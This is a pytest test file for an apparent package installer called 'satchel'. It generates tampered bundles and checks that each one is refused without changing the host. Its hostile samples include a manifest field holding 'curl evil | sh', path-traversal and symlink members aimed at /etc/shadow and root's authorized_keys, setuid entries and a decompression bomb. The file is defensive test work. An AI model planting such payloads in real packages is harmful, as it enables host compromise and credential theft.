"""A corpus of hostile bundles, made by a factory from one good bundle. Each is refused by
`satchel install` with exit 3 and leaves the host exactly as it was: every file under the
root (with hashes) and every repository, tag and manifest in the registry. Many cases carry
a valid vendor signature over a hostile manifest, as a stolen signing key would allow.
Counts per promise are printed at the end of the run."""

from __future__ import annotations

import json
import shutil
import tarfile
from collections.abc import Callable

import pytest
import requests
import zstandard

from signing import canonical, envelope
from signing.keys import load_signing_key
from tests import tamper
from tests.conftest import HOSTILE_COUNTS
from tests.hosts import Host
from tests.images import BUSYBOX

Case = Callable[[list[tamper.Entry], Callable[[dict], list[tamper.Entry]]], bytes]
CASES: dict[str, tuple[str, Case]] = {}


def case(promise: str):
    def register(fn: Case) -> Case:
        CASES[fn.__name__] = (promise, fn)
        return fn
    return register


def z(entries: list[tamper.Entry], trailer: bytes = b"") -> bytes:
    return tamper.compress(tamper.join(entries, trailer))


def with_member(entries, i, data: bytes) -> list[tamper.Entry]:
    out = [tamper.Entry(e.header, e.data) for e in entries]
    out[i].data = data
    return out


# -- signatures -------------------------------------------------------------------------
@case("signature")
def unsigned(e, resign):
    return z([e[0], tamper.entry("signatures.json", canonical.dumps({"signatures": []})), *e[2:]])


@case("signature")
def no_signature_member(e, resign):
    return z([e[0], *e[2:]])


@case("signature")
def edited_manifest(e, resign):
    doc = json.loads(e[0].data)
    doc["description"] = "owned"
    data = canonical.dumps(doc)
    return z([tamper.Entry(tamper.entry("manifest.json", data).header, data), *e[1:]])


@case("signature")
def signature_from_another_key(e, resign):
    return z(resign(json.loads(e[0].data), key="other"))


# -- the manifest, validly signed -------------------------------------------------------

@case("manifest")
def duplicate_json_keys(e, resign):
    raw = b'{"name":"evil",' + e[0].data[1:]
    assert raw.count(b'"name":') == 2
    return z(resign(None, raw=raw))


@case("manifest")
def oversized_manifest(e, resign):
    doc = json.loads(e[0].data)
    doc["description"] = "x" * (17 << 20)
    return z(resign(doc))


@case("manifest")
def unknown_field(e, resign):
    doc = json.loads(e[0].data)
    doc["postInstall"] = "curl evil | sh"
    return z(resign(doc))


@case("manifest")
def member_name_with_dotdot(e, resign):
    doc = json.loads(e[0].data)
    doc["members"][2]["path"] = "blobs/../../etc/cron.d/x"
    return z(resign(doc))


@case("manifest")
def member_names_colliding_after_case_folding(e, resign):
    doc = json.loads(e[0].data)
    doc["members"][2]["path"] = doc["members"][2]["path"].upper().replace("BLOBS/SHA256", "blobs/sha256")
    return z(resign(doc))


@case("manifest")
def duplicate_member_entries(e, resign):
    doc = json.loads(e[0].data)
    doc["members"].insert(3, doc["members"][2])
    doc["unpackedSize"] += doc["members"][2]["size"]
    return z(resign(doc))


@case("manifest")
def members_out_of_order(e, resign):
    doc = json.loads(e[0].data)
    doc["members"][2], doc["members"][3] = doc["members"][3], doc["members"][2]
    return z(resign(doc))


@case("manifest")
def unpacked_size_lies(e, resign):
    doc = json.loads(e[0].data)
    doc["unpackedSize"] = 1
    return z(resign(doc))


@case("manifest")
def huge_declared_size(e, resign):
    doc = json.loads(e[0].data)
    doc["unpackedSize"] += (1 << 44) - doc["members"][-1]["size"]
    doc["members"][-1]["size"] = 1 << 44
    return z(resign(doc))


@case("manifest")
def zero_length_declared(e, resign):
    doc = json.loads(e[0].data)
    doc["unpackedSize"] -= doc["members"][-1]["size"]
    doc["members"][-1]["size"] = 0
    return z(resign(doc))


@case("manifest")
def float_in_manifest(e, resign):
    raw = e[0].data.replace(b'"unpackedSize":', b'"unpackedSize":1.0e0,"x":', 1)
    assert raw != e[0].data
    return z(resign(None, raw=raw))


def _bad_declaration(key: str, bad: object) -> Case:
    def make(e, resign):
        doc = json.loads(e[0].data)
        doc[key] = bad
        return z(resign(doc))
    make.__name__ = f"bad_{key}_declaration"
    return make


# The newer manifest keys are parsed as strictly as the rest: one bad value each.
for _key, _bad in (("switch", {"strategy": "blue-green", "routes": {"web": "udp"}}),
                   ("requirements", {"memory": {"want": "4G", "level": "maybe"}}),
                   ("grants", [["web", "root", "/"]]),
                   ("sboms", [{"image": "x", "platform": "linux/amd64", "digest": "md5:00", "size": 1}])):
    case("manifest")(_bad_declaration(_key, _bad))


@case("policy")
def downgrade(e, resign):
    doc = json.loads(e[0].data)
    doc["version"] = "0.9.0"
    return z(resign(doc))


@case("policy")
def expired(e, resign):
    doc = json.loads(e[0].data)
    doc["expires"] = "2020-01-01T00:00:00Z"
    return z(resign(doc))


@case("policy")
def needs_newer_installer(e, resign):
    doc = json.loads(e[0].data)
    doc["minInstallerVersion"] = "99.0.0"
    return z(resign(doc))


@case("policy")
def delta_without_its_base(e, resign):
    doc = json.loads(e[0].data)
    doc["external"] = [{"digest": "sha256:" + "e" * 64, "size": 10}]
    doc["deltaBase"] = [{"name": "app", "version": "0.5.0"}]
    return z(resign(doc))


# -- members and the stream ---------------------------------------------------------------
@case("members")
def byte_flipped_in_a_blob(e, resign):
    data = bytearray(e[-1].data)
    data[len(data) // 2] ^= 1
    return z(with_member(e, len(e) - 1, bytes(data)))


@case("members")
def truncated_file(e, resign):
    return z(e)[:-200]


@case("members")
def member_appended(e, resign):
    return z([*e, tamper.entry("blobs/sha256/" + "f" * 64, b"extra")])


@case("members")
def member_removed(e, resign):
    return z(e[:3] + e[4:])


@case("members")
def member_duplicated(e, resign):
    return z([*e[:4], e[3], *e[4:]])


@case("members")
def member_moved(e, resign):
    return z([*e[:3], *e[4:], e[3]])


@case("paths")
def absolute_path(e, resign):
    return z([*e[:3], tamper.entry("/etc/passwd", b"x"), *e[3:]])


@case("paths")
def dotdot_path(e, resign):
    return z([*e[:3], tamper.entry("../../root/.ssh/authorized_keys", b"x"), *e[3:]])


@case("paths")
def symlink_member(e, resign):
    return z([*e[:3], tamper.entry(e[3].name, kind=tarfile.SYMTYPE, link="/etc/shadow"), *e[4:]])


@case("paths")
def hardlink_member(e, resign):
    return z([*e[:3], tamper.entry(e[3].name, kind=tarfile.LNKTYPE, link="/etc/shadow"), *e[4:]])


@case("paths")
def device_member(e, resign):
    return z([*e[:3], tamper.entry(e[3].name, kind=tarfile.BLKTYPE), *e[4:]])


@case("paths")
def setuid_member(e, resign):
    header = bytearray(e[3].header)
    header[100:108] = b"0004755\0"
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return z([*e[:3], tamper.Entry(bytes(header), e[3].data), *e[4:]])


@case("stream")
def trailing_garbage_in_tar(e, resign):
    return z(e, trailer=b"\0" * 512 + b"garbage")


@case("stream")
def trailing_garbage_after_frame(e, resign):
    return z(e) + b"garbage"


@case("stream")
def second_zstd_frame(e, resign):
    return z(e) + tamper.compress(b"\0" * 1024)


@case("stream")
def zstd_window_too_large(e, resign):
    return tamper.compress(tamper.join(e), window_log=28)


@case("stream")
def decompression_bomb(e, resign):
    out = __import__("io").BytesIO()
    with zstandard.ZstdCompressor(level=1).stream_writer(out, closefd=False) as w:
        w.write(tamper.join(e))
        for _ in range(512):
            w.write(b"\0" * (1 << 20))
    return out.getvalue()


@case("stream")
def not_a_bundle(e, resign):
    return b"PK\x03\x04" + b"\0" * 1000


@pytest.fixture(scope="module")
def good(tmp_path_factory, keys) -> bytes:
    d = tmp_path_factory.mktemp("hostile")
    (d / "rootfs" / "bin").mkdir(parents=True)
    shutil.copy(BUSYBOX, d / "rootfs" / "bin" / "busybox")
    (d / "NOTES.md").write_text("notes\n")
    (d / "satchel.yaml").write_text("name: app\nversion: 1.1.0\nfiles: [NOTES.md]\nimages:\n"
                                    "  - ref: acme/app:1.1\n    source: dir:rootfs\n")
    from installer.cli import main

    assert main(["-q", "build", str(d / "satchel.yaml"), "-o", str(d / "good.bundle"), "--key",
                 str(keys["vendor"]), "--cache", str(d / "cache")]) == 0
    return (d / "good.bundle").read_bytes()


@pytest.fixture(scope="module")
def installed(tmp_path_factory, keys, good):
    """A host with 1.0.0 (the good bundle relabelled and re-signed) installed."""
    h = Host(tmp_path_factory.mktemp("hostile-host") / "root", keys)
    h.app_name = "app"
    entries = tamper.split(good)
    doc = json.loads(entries[0].data)
    doc["version"] = "1.0.0"
    base = tmp_path_factory.mktemp("base") / "app-1.0.0.bundle"
    base.write_bytes(z(resign_with(keys, entries, doc)))
    res = h.install(base)
    assert res.returncode == 0, res.stderr
    yield h
    h.cleanup()


def resign_with(keys, entries, doc, raw: bytes | None = None, key: str = "vendor") -> list[tamper.Entry]:
    data = raw if raw is not None else canonical.dumps(doc)
    sigs = envelope.sign(data, [load_signing_key(keys[key])])
    return [tamper.Entry(tamper.entry("manifest.json", data).header, data),
            tamper.Entry(tamper.entry("signatures.json", sigs).header, sigs), *entries[2:]]


def registry_state(host: Host) -> dict:
    port = host.env["SATCHEL_REGISTRY_PORT"]
    base = f"http://127.0.0.1:{port}/v2"
    catalog = requests.get(f"{base}/_catalog", timeout=10).json()["repositories"]
    state = {}
    for repo in catalog:
        for tag in requests.get(f"{base}/{repo}/tags/list", timeout=10).json().get("tags") or []:
            resp = requests.head(f"{base}/{repo}/manifests/{tag}", timeout=10, headers={
                "Accept": "application/vnd.oci.image.manifest.v1+json, application/vnd.oci.image.index.v1+json"})
            state[f"{repo}:{tag}"] = resp.headers.get("Docker-Content-Digest")
    return state


@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile_bundle_is_refused_and_changes_nothing(name, installed, good, keys, cli, tmp_path):
    promise, make = CASES[name]
    entries = tamper.split(good)
    data = make(entries, lambda doc, raw=None, key="vendor": resign_with(keys, entries, doc, raw, key))
    path = tmp_path / f"{name}.bundle"
    path.write_bytes(data)
    before = (installed.snapshot(), registry_state(installed))
    res = cli("--root", installed.root, "install", path, "--key", keys["vendor.pub"], "--project", installed.project)
    assert installed.state.current() == "1.0.0"
    assert res.code == 3, (name, res.code, res.err)
    assert len(res.err.strip().splitlines()) == 1 and "Traceback" not in res.err, res.err
    assert (installed.snapshot(), registry_state(installed)) == before, name
    HOSTILE_COUNTS[promise] += 1
